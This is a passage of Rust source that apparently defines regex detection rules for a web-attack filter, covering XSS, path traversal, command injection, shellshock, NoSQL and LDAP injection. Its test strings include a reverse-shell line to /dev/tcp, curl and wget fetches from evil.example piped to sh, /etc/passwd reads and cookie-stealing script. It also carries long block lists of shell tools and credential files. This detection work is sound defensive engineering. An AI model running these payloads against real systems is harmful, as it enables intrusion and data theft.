        r#"(?:^|[=(\x22'`<>,\s]|url\s*\()\s*(?:j\s*a\s*v\s*a\s*s\s*c\s*r\s*i\s*p\s*t|v\s*b\s*s\s*c\s*r\s*i\s*p\s*t|livescript|mocha)\s*:\s*(?:(?:[a-uw-z_$]|v[a-np-z]|vo[a-hj-z])[\w$.]*\s*(?:\(|`|=|\[)|[\[(`'"!+\-~/{\\]|&#|%)|<[a-z][^>]*\b(?:href|src|action|formaction|data|background|poster|xlink:href)\s*=\s*['"]?\s*(?:javascript|vbscript|livescript)\s*:"#,
        catches ["javascript:alert(1)"],
        passes ["javascript: the good parts"]),
    rule!("xss-dangerous-tag", Xss, 1, High, 5, D, NotText,
        concat!(r"<[ /]*(?:", dangerous_tags!(), r")\b"),
        catches ["<iframe src=//evil.example>"],
        passes ["iframe sizing guide"]),
    rule!("xss-dangerous-tag-text", Xss, 1, High, 5, D, Text,
        concat!(r"<[ /]*(?:", dangerous_tags!(), r")\b[^<>]*?[\s/][a-z:-]+\s*="),
        catches ["<iframe src=\"//evil.example\">"],
        passes ["use an <iframe> for embeds"]),
    rule!("xss-data-uri", Xss, 1, High, 5, D, Any,
        r"data\s*:\s*(?:text/html|image/svg\+xml|application/(?:x-)?(?:javascript|xhtml\+xml|ecmascript)|text/(?:javascript|xml|ecmascript))|=\s*[\x22'`]?\s*data\s*:[^,]{0,40};base64,",
        catches ["data:text/html;base64,PHNjcmlwdD4="],
        passes ["data: text and html are separate"]),
    rule!("xss-dangerous-attributes", Xss, 1, High, 5, D, NotText,
        r"\b(?:srcdoc|formaction|xlink:href|dynsrc|lowsrc|background)\s*=|\bexpression\s*\(|-moz-binding\s*:|\bbehavior\s*:|@import\b|\bstyle\s*=[^>]*(?:expression|javascript:|url\s*\()",
        catches ["x:expression(alert(1))"],
        passes ["a regular expression"]),
    rule!("xss-dangerous-attributes-text", Xss, 1, High, 5, D, Text,
        r"\b(?:srcdoc|formaction|xlink:href|dynsrc|lowsrc)\s*=|\bexpression\(|-moz-binding\s*:|\bstyle\s*=[^>]*(?:expression\(|javascript:)",
        catches ["hello <div style=\"width:expression(alert(1))\"> bye"],
        passes ["regular expressions like A** (the second star is ignored)"]),
    rule!("xss-dom-sinks", Xss, 1, High, 5, D, NotText,
        r"\b(?:document|window|top|parent|self|frames|this|globalthis)\s*(?:\??\.|\[\s*['\x22`]?)\s*(?:cookie|domain|location|write|writeln|body|open|eval|execscript|innerhtml|outerhtml)\b|\b(?:alert|prompt|confirm|eval|atob|btoa|settimeout|setinterval)\s*(?:\(|`|\[|&#|\?\.\s*\()|\+adw-\s*/?[a-z!]|\bfromcharcode\b|\.constructor\s*\(|\binnerhtml\s*=",
        catches ["document.cookie"],
        passes ["cookie policy document"]),
    // Prose says `prompt (or …)` and `eval \`dircolors\``: in free text a
    // call has no space before its parenthesis.
    rule!("xss-dom-sinks-text", Xss, 1, High, 5, D, Text,
        r"\b(?:document|window|top|parent|self|frames|globalthis)\s*(?:\??\.|\[\s*['\x22`]?)\s*(?:cookie|domain|location|write|writeln|execscript|innerhtml|outerhtml)\b|\b(?:alert|prompt|confirm|eval|atob|settimeout|setinterval)(?:\(|`\w|&#)|\bfromcharcode\b|\.constructor\s*\(|\binnerhtml\s*=",
        catches ["nice post <img src=x onerror=alert(document.cookie)> thanks"],
        passes ["start a Guile interactive prompt (or \"repl\" for read-eval-print loop)"]),
    rule!("xss-dom-sink-variants", Xss, 1, High, 5, D, Any,
        r"\b(?:alert|prompt|confirm|eval|settimeout|setinterval|function)\s*(?:\)\s*\(|\.\s*(?:call|apply|bind)\s*\()|\[\s*['\x22`]\s*(?:alert|prompt|confirm|eval|cookie|constructor)\s*['\x22`]\s*\]|\blocation(?:\.href)?\s*=\s*['\x22`]?\s*(?:https?:|javascript:|//|data:)|\b(?:datasrc|datafld|dataformatas)\s*=|\b(?:top|window|self|parent|frames|globalthis)\s*\[[^\]]{0,80}[.+/'\x22`(][^\]]{0,80}\](?:\(|`)|\.\s*(?:find|map|filter|some|every|foreach|sort|reduce|then)\s*\(\s*(?:alert|prompt|confirm|eval)\s*\)|(?:^|[;,\s])[a-z_$][\w$]*\s*=\s*(?:alert|prompt|confirm|eval)\s*[,;]\s*[a-z_$][\w$]*\s*\(|\bev:(?:event|handler)\s*=|\.\s*(?:call|apply|bind)\s*`|\$\{\s*(?:alert|prompt|confirm|eval)\s*\}|\bnew +function *\( *(?:\)|['\x22`])|!!\[\]|\(\s*!\s*\[\]|\[\s*!\s*\[\]\s*\]|\bvmlframe\b|url\s*\(\s*['\x22]?\s*(?:javascript|vbscript)\b|(?:^|base64,)\s*(?:phnjcmlwd|phn2zy|pgltzy|pglmcmftz|pgjvzhk|pg9iamvjd)",
        catches ["['alert']"],
        passes ["alert me when ready"]),
    rule!("xss-dom-sinks-commented", Xss, 1, High, 5, S, Any,
        r#"\b(?:document|window|self|top|parent)\s*(?:\.\s*(?:cookie|domain|location|write)\b|\[\s*['"`]?\s*(?:alert|cookie|eval|prompt|confirm)['"`]?\s*\])"#,
        catches ["document/**/.cookie"],
        passes ["document cookie policy"]),
    rule!("xss-style-breakout", Xss, 2, High, 4, D, NotText,
        r#"<[a-z][^>]*\bstyle\s*=\s*['"]?[^'">]*[{}]|\bo(?:<[a-z]{0,8}>)+n[a-z<>]{2,}\s*=|\bon[a-z]+<[a-z]{0,8}>[a-z<>]*\s*="#,
        catches ["<div style=\"}body{background:red\">"],
        passes ["style = {casual}"]),
    rule!("xss-handler-name", Xss, 1, High, 4, D, Structural,
        r"^\s*on[a-z]{3,}\s*=\s*$",
        catches ["onload="],
        passes ["online"]),
    rule!("xss-attribute-breakout", Xss, 1, High, 4, D, Any,
        r#"["']\s*/?>\s*<\s*[a-z!]"#,
        catches ["\"><img src=x>", "<a id=\"x\"><rect fill=\"white\"/></a>"],
        passes ["\"quoted\" > other", "<order id=\"5\"><item sku=\"A1\">Shoe &amp; sock</item></order>"]),
    rule!("xss-tag-close-open", Xss, 2, Medium, 3, D, Any,
        r"</[a-z]+\s*>\s*<[a-z]",
        catches ["</title><img src=x>"],
        passes ["</ not a tag"]),
    rule!("xss-markup-declaration", Xss, 2, High, 4, D, Value,
        r"<!--\s*(?:\[if\b|$)|^\s*-->|--><|<!\[(?:cdata\[|endif\]|if\b)|<!(?:doctype|attlist|entity|element)\b|<\?(?:import|xml)\b",
        catches ["<!--[if gte IE 4]>"],
        passes ["a --> b"]),
    rule!("xss-generic-tag", Xss, 3, Low, 2, D, Any,
        r"<[a-z!/?][^>]{0,100}>",
        catches ["<b>bold</b>"],
        passes ["a < b > c"]),
    // --------------------------------------------------------- traversal
    rule!("traversal-leading", Traversal, 1, High, 4, P, Any,
        r"^(?:\.?/)*\.\.+(?:/|$)",
        catches ["../secret"],
        passes ["..hidden"]),
    rule!("traversal-repeated", Traversal, 1, High, 5, P, Any,
        r"(?:\.\.+/){2,}|(?:/\.\.+){2,}|\.{3,}/|\.\./\.?/|\.\.[;?]/|/\.\.$",
        catches ["a/../../b"],
        passes ["a/b/c/d"]),
    rule!("traversal-sensitive-file", Traversal, 1, High, 5, P, NotText,
        r"(?:^|/|=|:)(?:etc/(?:passwd|shadow|group|hosts|issue|motd|crontab|sudoers|fstab|hostname|resolv\.conf|httpd|apache2?|nginx|mysql|my\.cnf|ssh|security|profile|bashrc|inittab|lilo\.conf|grub|php|redhat-release|lsb-release|os-release|master\.passwd|pwd\.db|environment)|proc/(?:self|version|\d+|net|cmdline|environ|mounts|cpuinfo|meminfo|sched_debug)|(?:windows|winnt)/(?:win\.ini|system\.ini|system32|repair|panther|debug|php\.ini)|boot\.ini|win\.ini|var/(?:log|www|lib|mail|spool|run)/|usr/local/(?:apache|etc|lib)|root/\.|home/[^/]+/\.|\.htaccess|\.htpasswd|web-inf/|meta-inf/|wp-config\.php|id_rsa|id_dsa|authorized_keys|known_hosts|\.bash_history|\.ssh/|\.aws/|\.git/|\.env$|php\.ini|httpd\.conf|my\.ini|config\.php|localsettings\.php|database\.yml|applicationhost\.config|inetpub/)",
        catches ["/etc/passwd"],
        passes ["etcetera/password"]),
    // Prose names system files (`my /etc/issue says`): in free text only a
    // value that opens with one is a path.
    rule!("traversal-sensitive-file-text", Traversal, 1, High, 5, P, Text,
        r"^[\s'\x22]*(?:file:/*|[a-z]:)?(?:\./|\.\./)*/*(?:etc/(?:passwd|shadow|group|hosts|sudoers|issue)|proc/self/|(?:windows|winnt)/(?:win\.ini|system\.ini|system32)|boot\.ini|win\.ini|root/\.|home/[^/\s]+/\.ssh/|\.ssh/|\.aws/|\.env\b|web-inf/|wp-config\.php)",
        catches ["/etc/passwd is what I want to read, please send it"],
        passes ["I upgraded my system and now my /etc/issue says trixie/sid"]),
    rule!("traversal-sensitive-name", Traversal, 1, High, 5, P, NotText,
        r"etc/(?:passwd|shadow|hosts|issue)\b|\bboot\.ini\b|\bwin\.ini\b|windows/system32|winnt/system32|system32/drivers|/proc/self/(?:environ|cmdline|fd|maps|mem|status)|\.bash_history\b|\.ssh/(?:id_|authorized)",
        catches ["etc/shadow"],
        passes ["etc shadow puppets"]),
    rule!("traversal-sensitive-name-any-separator", Traversal, 1, High, 5, D, NotText,
        r"\betc[^a-z0-9\s]{1,16}(?:passwd|shadow|issue|hosts|group)\b|\bwin(?:dows|nt)[^a-z0-9\s]{1,16}(?:system32|win\.ini|system\.ini|repair)\b|\bsystem32[^a-z0-9\s]{1,16}(?:drivers|config)\b|(?:boot|win|system)\.ini\b|\bntuser\.(?:dat|ini)\b|\bunattend(?:ed)?\.xml\b",
        catches ["etc|passwd"],
        passes ["etc passwd reset"]),
    rule!("traversal-garbage-separators", Traversal, 1, High, 5, D, NotText,
        r"\b(?:etc|windows|winnt|system32)(?:[^a-z0-9\s]|%{1,2}[a-z0-9]{1,2}|0x[0-9a-f]{2}){1,8}(?:passwd|shadow|issue|hosts|group|system32|drivers|win\.ini)\b|(?:\.\.|\.\?|\?\.|\?\?)(?:[^a-z0-9\s.]|%{1,2}[a-z0-9]{1,2}|0x[0-9a-f]{2}){1,8}(?:\.\.|\.\?|\?\?|etc\b|windows\b|winnt\b|boot\.ini)",
        catches ["..0x2f..0x2fetc"],
        passes ["wait.. 0x2f is slash"]),
    rule!("traversal-server-files", Traversal, 1, High, 4, P, NotText,
        r"^(?:[a-z]:)?/(?:xampp|apache2?|apache group|mysql|inetpub|php\d?|nginx|wamp\w*|tomcat\w*|logs?|program files(?: \(x86\))?|usr/local|opt/lampp)/[^\s]*\.(?:log|ini|conf|cnf|php|xml|txt|pwd|passwd|properties)$|(?:^|/)(?:access|error|httpd-access|httpd-error)[._-]?log(?:\.\d)?$",
        catches ["/xampp/apache/logs/access.log"],
        passes ["xampp install guide"]),
    rule!("traversal-windows-drive", Traversal, 2, Medium, 3, P, NotText, r"^[a-z]:/",
        catches ["c:/windows"],
        passes ["c: drive"]),
    rule!("traversal-glob", Traversal, 1, High, 4, P, Any,
        r"/(?:etc|bin|usr|proc|dev|tmp|var|sbin)/[a-z0-9._-]*[?*\[]",
        catches ["/etc/pass*"],
        passes ["what is 2*3?"]),
    rule!("traversal-file-scheme", Traversal, 1, High, 5, D, NotText,
        r"\bfile\s*:\s*/",
        catches ["file:///etc/passwd"],
        passes ["file: report.pdf"]),
    rule!("traversal-single", Traversal, 2, Medium, 3, P, NotText,
        r"(?:^|/)\.\.(?:/|$)",
        catches ["a/../b"],
        passes ["a/b..c"]),
    rule!("traversal-absolute-system-path", Traversal, 2, High, 4, P, NotText,
        r"^(?:[a-z]:)?/(?:etc|proc|sys|dev|bin|sbin|boot|root|usr|var|opt|tmp|windows|winnt|inetpub|program files)(?:/|$)|^[a-z]:/(?:xampp|php\d?|nginx[\w.-]*|apache[\w.-]*|mysql|programfiles|program files \(x86\)|documents and settings|users|wamp\w*|sysprep)(?:/|$)",
        catches ["/etc/nginx/nginx.conf"],
        passes ["/settings/profile"]),
    rule!("traversal-hex-dots", Traversal, 1, High, 4, D, Any,
        r"(?:0x2e){2}|(?:0x2e0x2e|\.\.)(?:0x2f|0x5c)",
        catches ["0x2e0x2e0x2f"],
        passes ["0x2e is a dot"]),
    // -------------------------------------------------------------- cmdi
    rule!("cmdi-chained-command", Cmdi, 1, High, 5, D, NotText,
        r#"(?:[;&|\n`]|\$\()[ (]*(?:[a-z_]+=[^\s;&|`]* +)?(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|csh|dash|python[23]?|perl|ruby|php|ping|nslookup|dig|sleep|echo|rm|chmod|chown|touch|kill|killall|ps|ifconfig|ipconfig|powershell|cmd|systeminfo|telnet|ssh|nmap|useradd|sudo|su|printenv|awk|sed|xterm|base64|grep|tar|crontab|mkfifo|socat|busybox|getent|hostname|reboot|shutdown|tasklist|taskkill|certutil|bitsadmin|wmic|netstat|arp|tracert|traceroute|passwd|uptime|lsb_release|mount|cp|mv|tee|xargs|timeout|exec|eval|gcc|expr|nohup|setsid|pwd|sysinfo|netsh|phpinfo|who|top|htop|visudo|strace|ltrace|regedit|bcdboot|lastlogin?|getfacl|ansible(?:-[a-z]+)?|chef-[a-z]+|rmt(?:-[a-z]+)?|lastlog|ssh-(?:copy-id|keygen|agent)|flock|cpulimit|c89|c99|gdb|vim?|perf|pipx?3?|base32|scp|rsync|dpkg|apt-get|yum|kubectl|systemctl|journalctl|iptables|tcpdump|openssl|xxd|hexdump|chattr|setfacl|chgrp|cscli|jrunscript|irb|lwp-(?:download|request)|tftp|smbclient|xdg-open|nodejs|tclsh|mysql|psql|sqlite3|php-cgi|aria2c|unzip|gzip|gunzip|aptitude|net +(?:user|view|localgroup)|reg +(?:add|query|delete|save|export))(?:$|[\s;|&<>`$('"\\{/]|\)\s*(?:$|[;|&`)<>]|\d+\s*[<>]))|(?:[;&|\n`]|\$\()[ (]*(?:dir|type|more|find|head|tail|less|env|ver|set)(?: +(?:-{1,2}[a-z]|/|[a-z]:[\\/]|\.{1,2}/|%|\$)| *$| *[;|&<>`])|(?:[;&|\n`]|\$\()[ (]*(?:date|fold|column|comm|time|bridge|ex|vi|nvim|sort|cut|paste|strings|rev|watch|screen|script|expect|at|service|node|java|lua|dd|ln|od|nl|diff|cmp|shuf|uniq|rc|pip|apt|zip|cd|file|stat|du|df|free|last|w|finger|locate|which|whereis)(?: +(?:-{1,2}[a-z]|/|[a-z]:[\\/]|\.{1,2}/|~/|\$)|(?: +[\w.-]+)? *[;|&]| +[\w.-]*(?:passwd|shadow|\.sh)\b)"#,
        catches ["x; cat /etc/passwd"],
        passes ["cats; dogs", "Opera Mini/4.2.14912/870; U; id) Presto/2.4.15"]),
    rule!("cmdi-leading-command", Cmdi, 1, High, 5, D, Value,
        r#"^[ (]*(?:/?(?:usr/)?(?:local/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|bash|sh|zsh|python[23]?(?:\.\d+)?|busybox|perl|ruby|php|ping|nslookup|sleep|echo|rm|chmod|ps|ifconfig|ipconfig|powershell|cmd|systeminfo|netstat|type|dir|more|head|tail|find|grep)(?: +(?:-{1,2}[a-z]|/[a-z.]|[a-z]:[\\/]|\.\.?/|\$|[0-9]+ *[;|&])|\$\{?ifs| *[|&<>`]| *;(?: *$| *[^a-z\s])| *$)"#,
        catches ["cat /etc/passwd", "id;"],
        passes ["cat food", "id;name;email"]),
    rule!("cmdi-wrapped-command", Cmdi, 1, High, 5, D, Value,
        r#"(?:^|[;&|\n`]|\$\()\s*['"]?(?:time|strace|ltrace|nohup|nice|sudo|doas|exec|xargs|watch|stdbuf|timeout +\d+|cpulimit\b[^;|&]{0,30} -[fe]|flock\b[^;|&]{0,30})['"]?\s+(?:cat|ls|id|whoami|who|uname|ifconfig|ipconfig|curl|wget|nc|ncat|bash|sh|zsh|python[23]?|perl|ruby|php|ping|nslookup|netstat|ps|env|printenv|hostname|cscli|ansible(?:-[a-z]+)?|chef-[a-z]+)\b"#,
        catches ["nohup id"],
        passes ["time to ping you"]),
    rule!("cmdi-tool-command-line", Cmdi, 2, High, 4, D, Value,
        r#"^\s*(?:ansible(?:-[a-z]+)?|chef-[a-z]+|knife|cscli|visudo|strace|ltrace|gdb|c89|c99|cpulimit|ssh-copy-id|lastlog|rmt(?:-[a-z]+)?)(?: +[^\s-]\S*){0,3} +(?:-{1,2}[a-z]|/|~/|\.{1,2}/|[\w.-]+@[\w.-]+|[\w./-]+\.(?:ya?ml|rb|sh|py|cfg|ini|conf)\b)|^\s*pip[x3]? +(?:install|download|uninstall)\b|^\s*(?:env|perf|set|nohup|date) +-{1,2}[a-z]|(?:^|[;&|\n])\s*cd +[/.~\\]\S* *[;&|]|-exec(?:dir)? +\S+.{0,40}(?:\{\}|\\;)|(?:^|[;&|\n])\s*\. ?(?:shell|system|databases|import|output)\b|^\s*(?:rc|sh|bash|zsh|ksh|dash|csh|tcsh|source) +[\w./-]+\.(?:sh|bash|py|pl|rb|ps1)\b|['"]\s*(?:cscli|visudo|ansible(?:-[a-z]+)?|chef-[a-z]+|getent|lastlog|printenv)['"]\s+[a-z]|\bkernel\.(?:exit|exec|system|spawn|fork|open|eval)\b|^\s*\.?/?(?:usr/)?(?:local/)?s?bin/[a-z][\w.-]*\s*$|^\s*reg +(?:add|query|delete|save|export|import|load|unload) +['"]?(?:hk|\\\\)|@\{\[\s*(?:system|exec|qx|`)"#,
        catches ["pip install evil-package"],
        passes ["pip is a package manager"]),
    rule!("cmdi-header-command", Cmdi, 2, High, 4, D, Only(SourceKind::Header),
        r#"^\s*['"]?(?:ansible(?:-[a-z]+)?|chef(?:-[a-z]+)?|cscli|visudo|knife|sudo|whoami|uname|ifconfig|ipconfig|netstat|systeminfo|nslookup|printenv|getent|lastlog|nohup|strace)['"]?(?:\s|$)"#,
        catches ["whoami"],
        passes ["Mozilla/5.0 (X11; Linux x86_64)"]),
    rule!("cmdi-windows-batch", Cmdi, 1, High, 5, S, NotText,
        r#"\bfor +(?:/[dflr] +)*(?:[^%\s]+ +){0,3}(?:"[^"]*" +)?%%?~?(?:[^\s%]\w*)? +in *\(|\bif(?: +| */i +)(?:/i +)?(?:not +)?(?:exist\b|errorlevel\b|defined\b|cmdextversion\b|"?%[^% ]+%"? *(?:==|(?:equ|neq|lss|leq|gtr|geq)\b)|\S*%~?\d\S* *==|\(?[^\s=()]+\)? +(?:equ|neq|lss|leq|gtr|geq) +\(?[^\s=()]+\)? +[a-z(]|(?:"[^"]*"|\S+) *== *(?:"[^"]*"|\S+) +[a-z(@])"#,
        catches ["for %i in (*) do type %i"],
        passes ["for all in the family"]),
    rule!("cmdi-obfuscated-word", Cmdi, 1, High, 5, D, Any,
        r"[a-z]\$(?:\(\)|\{\}|@|\*|\$|_|!|\?|-)[a-z]|[a-z]\$(?:\(\)|\{\})(?:\s|$)|[a-z]'{2}[a-z]|[a-z]\x22{2}[a-z]|[a-z](?:``|[<>]\(\))[a-z]",
        catches ["c$@at"],
        passes ["costs $5 each"]),
    rule!("cmdi-quoted-command", Cmdi, 1, High, 5, D, Value,
        r#"(?:^|['"])\s*(?:(?:whoami|uname|ifconfig|ipconfig|netstat|systeminfo|nslookup)\b(?:\s|['"]|$)|(?:wget|curl)\b(?:['"]|\s*$|\s+(?:-|localhost\b|['"]?[\w.-]*[./:@$`|;&])))"#,
        catches ["\"whoami\"", "curl evil.example/x.sh", "wget -q -O- x"],
        passes ["who am i", "curl and divergence"]),
    rule!("cmdi-chained-command-text", Cmdi, 2, Medium, 3, S, Any,
        r"(?:[;|`]|\$\()[ (]*(?:/?(?:usr/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|bash|sh|ping|sleep|rm|ps|net|powershell|cmd)(?:$|[\s;|&<>`]|\)\s*(?:$|[;|&`)<>]|\d+\s*[<>]))",
        catches ["x | id"],
        passes ["pipe | symbol", "Opera/9.80 (J2ME/MIDP; Opera Mini/4.2.14912/870; U; id) Presto/2.4.15"]),
    rule!("cmdi-substitution", Cmdi, 1, High, 5, D, NotText,
        r"\$\(\s*(?:[a-z/{]|\()",
        catches ["$(id)"],
        passes ["costs $ (USD)"]),
    // Shell documentation is full of `"$(cmd)"`: in free text only a
    // substitution after a breakout (a quote and a separator) or at the
    // start counts.
    rule!("cmdi-substitution-text", Cmdi, 1, High, 5, D, Text,
        r#"^\s*\$\(\s*[a-z/{(]|['"`]\s*(?:[;|&]+|\)\s*[;|&]+)\s*\$\(\s*[a-z/{(]"#,
        catches ["my name is bob\"; $(curl evil.example | sh) and more"],
        passes ["export SDKROOT=\"$(xcrun --sdk macosx --show-sdk-path)\" before you build it"]),
    rule!("cmdi-shell-expansion", Cmdi, 2, High, 4, D, NotText,
        r#"<<<\s*['"`]?[a-z0-9$]|/[a-z]+['"\\][a-z]*/|[a-z]\{[a-z]+,[a-z]+\}[a-z]|(?:^|[;|&`]) *\$\{?[a-z_]\w*\}? +[a-z-]|(?:^|[;|&`]) *(?:\$\{?[a-z_]\w*\}?){2,}|(?:^|[;&|]) *alias +(?:-[a-z]+ +)?['"]?[\w.-]+['"]?=|\btrap +['"][^'"]*['"] +(?:sig)?(?:exit|int|term|hup|err|debug)\b|(?:^|[\s;|&=])[<>]\(\s*[a-z]|\$\[[0-9 ]+[-+*/%][0-9 ]+\]|\$\{[a-z_]+(?:#|%|/|\^|,|:[-=+?])[^}]*\}|\{,[a-z/?*]+[,}]|\{[/?*a-z]*\?[/?*a-z]*,|(?:^|[;&|]) *[a-z_:.][\w:.-]* *\(\) *\{[^}]*[;|&][^}]*\}|\{[a-z$\\]*,-[a-z]|/[a-z?]*\[[a-z/?*]+\][a-z?]*/|(?:^|[\s;|&`'"])/(?:[a-z]*\?[a-z?]*|[a-z]+\*[a-z*]*|\*[a-z]+)/[a-z?*]*[?*]|\b(?:ba|z|k|da)?sh +-c +\S|\$\{?shell\}? +-c\b"#,
        catches ["bash -c id"],
        passes ["bash party"]),
    rule!("cmdi-powershell-cmdlet", Cmdi, 1, High, 5, S, NotText,
        r#"\b(?:invoke-(?:webrequest|expression|restmethod|command|item)|start-process|new-object +(?:net\.webclient|system\.net\.)|downloadstring|downloadfile|set-mppreference|get-wmiobject)\b|(?:^|[;&|]) *(?:iwr|iwmi|iex|irm) +[-a-z('"$]|\bmshta(?:\.exe)? +\S"#,
        catches ["invoke-expression $x"],
        passes ["invoke the expression"]),
    rule!("cmdi-dot-shell", Cmdi, 2, High, 4, D, NotText,
        r#"(?:^|[;\n])\s*\.\\?"?sh(?:ell)? +[a-z]"#,
        catches [".shell id"],
        passes ["shell game"]),
    rule!("cmdi-backticks", Cmdi, 1, High, 5, D, NotText,
        r"`\s*(?:/?(?:usr/)?s?bin/)?(?:cat|ls|id|whoami|uname|wget|curl|nc|bash|sh|ping|sleep|echo|rm|ps|python|perl|ruby|php|nslookup|dig|true|false|env|hostname|pwd)\b[^`]*`",
        catches ["`id`"],
        passes ["`code` sample"]),
    rule!("cmdi-ifs-brace", Cmdi, 1, High, 5, D, Any,
        r"\$\{?ifs\}?|\$\{[a-z_]+:[0-9]+:[0-9]+\}|\{\s*(?:cat|ls|echo|wget|curl|nc|bash|sh|id|ping|cp|rm),[^}]*\}|\b(?:cat|ls|echo|wget|curl|nc|bash|sh|ping)\$\{?ifs",
        catches ["cat${IFS}/etc/passwd"],
        passes ["ifs and buts"]),
    rule!("cmdi-windows", Cmdi, 1, High, 5, S, Any,
        r"\b(?:ping|cmd|powershell|pwsh|nslookup|certutil|whoami|net|reg|wmic|cscript|wscript|mshta|rundll32|regsvr32|bitsadmin|schtasks|tasklist|systeminfo)\.exe\b|\bcmd(?:\.exe)? *(?:/[ckr]|/s)|\bpowershell(?:\.exe)? +(?:-\w|iex|invoke|\()|%comspec%|%systemroot%|\bcertutil(?:\.exe)? +-|\bbitsadmin(?:\.exe)? +/|\bwmic +(?:process|os|useraccount)|\bnet +(?:user|localgroup|view|share|use)\b|\breg +(?:query|add|delete) +hk",
        catches ["cmd.exe /c dir"],
        passes ["cmd key"]),
    rule!("cmdi-binary-path", Cmdi, 1, High, 5, S, NotText,
        r#"(?:^|[\s;|&(`'"=])/(?:usr/)?(?:local/)?s?bin/(?:ba|z|k|c|da|tc)?sh\b|(?:^|[\s;|&(`'"=])/bin/(?:cat|ls|id|nc|echo|busybox|ping|uname|rm|wget|curl)\b|/dev/(?:tcp|udp)/"#,
        catches ["/bin/sh"],
        passes ["the bin is full"]),
    // Prose names `/bin/sh`; a command after a breakout, or a socket of
    // `/dev/tcp`, is no prose.
    rule!("cmdi-binary-path-text", Cmdi, 1, High, 5, S, Text,
        r#"['"`]\s*(?:[;|&]+|\$\()\s*/(?:usr/)?(?:local/)?s?bin/\w+|/dev/(?:tcp|udp)/\d"#,
        catches ["looks good to me'; /bin/sh -c id; echo thanks for all"],
        passes ["wc no longer warns: \"wc /bin/sh\" now produces normal output"]),
    rule!("cmdi-reverse-shell", Cmdi, 1, High, 5, S, Any,
        r"\bnc(?:at)? +(?:-[a-z]*[elcp][a-z]* +)+|\bmkfifo +/|\bsocat +(?:tcp|exec|-)|\bbash +-i\b|\bsh +-i\b|\bpython[23]? +-c +['\x22]|\bperl +-e +['\x22]|\bphp +-r +['\x22]|\bruby +-e +['\x22]|>\s*/dev/(?:tcp|null)",
        catches ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
        passes ["bash the ideas", "mkdir, mkfifo and mknod now work better"]),
    // Installation notes pipe scripts to a shell (`curl … | sh`): outside
    // free text a pipe into a shell is a command line.
    rule!("cmdi-pipe-to-shell", Cmdi, 1, High, 5, S, NotText,
        r"\|\s*(?:/bin/)?(?:ba|z|da)?sh\b",
        catches ["x | sh"],
        passes ["x | shirt"]),
    rule!("cmdi-redirect-sensitive", Cmdi, 2, High, 4, S, Any,
        r"(?:>>?|<) *(?:/tmp/|/var/www|/etc/|/dev/)",
        catches ["echo x > /tmp/out"],
        passes ["a > b"]),
    rule!("cmdi-wget-curl-url", Cmdi, 1, High, 5, S, Any,
        r"\b(?:wget|curl|fetch|lwp-download|tftp|ftp)\s+(?:-[a-z-]+\s+)*(?:https?|ftp|tftp)://",
        catches ["wget http://evil.example/x.sh"],
        passes ["use wget for downloads"]),
    // ----------------------------------------------------------- shellshock
    rule!("shellshock", Shellshock, 1, High, 5, D, Any,
        r"\(\s*\)\s*\{\s*[^}]{0,40};?\s*\}\s*;|^\s*\(\s*\)\s*\{",
        catches ["() { :; }; echo vulnerable"],
        passes ["() is an empty tuple"]),
    // --------------------------------------------------------------- nosqli
    rule!("nosqli-operator-key", Nosqli, 1, High, 5, D, Any,
        r#"\[\s*\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|not|nor|expr|elemmatch|size|all|type|mod|text|jsonschema|function|accumulator)\s*\]|["']?\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|nor|expr|elemmatch|function)["']?\s*:"#,
        catches ["[$ne]"],
        passes ["[ne]"]),
    rule!("nosqli-operator-json-key", Nosqli, 1, High, 5, D, Only(SourceKind::JsonKey),
        r"^\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|not|nor|expr|elemmatch|size|all|type|mod|text|jsonschema|function|accumulator|comment|options|slice|search)$",
        catches ["$where"],
        passes ["where"]),
    rule!("nosqli-operators-inline", Nosqli, 1, High, 4, D, NotText,
        r#"\$(?:comment|where|regex|ne|nin|exists|expr|elemmatch)\s*:|['"]?&exists['"]?\s*:|(?:\|\||&&)\s*['"]?\w+['"]?\s*===?\s*['"]?\w+"#,
        catches ["$regex:.*"],
        passes ["regex: .*"]),
    rule!("nosqli-where-js", Nosqli, 1, High, 5, D, Any,
        r#"\$where\b|\bthis\.[a-z_]+\s*(?:==|!=|\.match\s*\(|\[)|['"]\s*;\s*return\s|;\s*return\s*(?:true|false|1|\(|'|")|\bdb\.[a-z_]+\.(?:find|drop|insert|remove|update)\w*\s*\(|\bnew\s+date\s*\(\s*\)\s*;?\s*(?:do|while)|(?:while|do)\s*[\({][^)}]{0,80}new\s+date|\bmapreduce\b|\bsleep\s*\(\s*\d+\s*\)"#,
        catches ["this.password == 'x'"],
        passes ["this password is weak"]),
    rule!("nosqli-js-tautology", Nosqli, 1, High, 4, D, Any,
        r#"['"]\s*(?:\|\||&&)\s*['"]?[a-z0-9]*['"]?\s*==\s*['"]?[a-z0-9]*|(?:\|\||&&)\s*this\."#,
        catches ["' || '1'=='1"],
        passes ["a || b"]),
    // ----------------------------------------------------------------- ldapi
    rule!("ldapi-filter-breakout", Ldapi, 1, High, 5, D, NotText,
        r"\)\s*\(\s*[|&!]|\(\s*[|&]\s*\(|\*\s*\)\s*\(|\*\s*\(\s*\)\s*[|&]|\)\s*\)\s*\(|\(\s*\w+\s*=\s*\*\s*\)\s*\)|\bobjectclass\s*=\s*\*|\buserpassword\s*=|\)\s*\(\s*\w+\s*=\s*\*",
        catches ["*)(uid=*))(|(uid=*"],
        passes ["(see page 4)"]),
    // Changelogs close and open parentheses (`(work by X) (!2973)`), C
    // casts have `*) (`: in free text a filter needs its operator and
    // another `(`, or an attribute comparison.
    rule!("ldapi-filter-breakout-text", Ldapi, 1, High, 5, D, Text,
        r"\)\s*\(\s*[|&!]\s*\(|\*\s*\)\s*\(\s*[|&!]?\s*[a-z][a-z0-9-]*\s*[~<>]?=|\bobjectclass\s*=\s*\*|\buserpassword\s*=\s*\*",
        catches ["my user is *)(|(uid=*))(|(uid=* thanks"],
        passes ["Fix various build failures (work by Kjell) (!2740, #2758)"]),
    rule!("ldapi-attribute-filter", Ldapi, 1, High, 5, D, Any,
